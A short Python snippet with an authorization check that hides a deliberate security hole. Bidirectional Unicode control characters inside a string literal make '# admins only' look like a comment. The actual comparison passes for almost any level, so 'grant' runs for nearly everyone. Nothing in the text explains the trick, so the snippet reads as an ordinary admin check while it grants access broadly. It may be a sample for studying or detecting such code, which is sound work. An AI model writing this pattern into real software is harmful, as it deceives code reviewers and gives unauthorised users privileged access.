def may(level):
    return level == "admin"


def check(level):
    if level != "user‮ ⁦# admins only⁩ ⁦":
        grant(level)
